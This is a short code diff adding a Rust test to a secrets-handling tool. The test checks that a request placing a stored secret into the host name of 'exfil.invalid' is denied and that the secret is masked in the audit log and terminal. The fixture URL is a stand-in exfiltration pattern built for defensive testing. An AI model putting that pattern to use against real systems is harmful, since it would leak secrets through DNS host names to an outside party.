@@ -586,3 +586,17 @@ fn nothing_is_sent_when_the_disk_is_full() {
     let v = env.run_with(env.host().env("KEYHOLE_HOME", &home).args(["audit", "verify"]), b"");
     v.expect_code(0);
 }
+
+#[test]
+fn a_secret_in_a_refused_host_name_is_masked_in_the_audit_log_and_the_terminal() {
+    let env = Env::new();
+    env.set_secret("", "K", "leakyvalue123");
+    let requests = json!([{"url": "http://{secret}.exfil.invalid/x"}]);
+    let r = http_with(&env, "K", requests, &["--allow-outbound", "http://127.0.0.1:9"]);
+    r.expect_code(0);
+    assert_eq!(r.json()[0]["error"], "Denied", "{}", r.stdout);
+    assert!(!r.all_output().contains("leakyvalue123"), "{}", r.all_output());
+    let log = env.run(&["audit", "list", "--json"]).stdout;
+    assert!(!log.contains("leakyvalue123"), "{log}");
+    assert!(log.contains("***.exfil.invalid"), "{log}");
+}
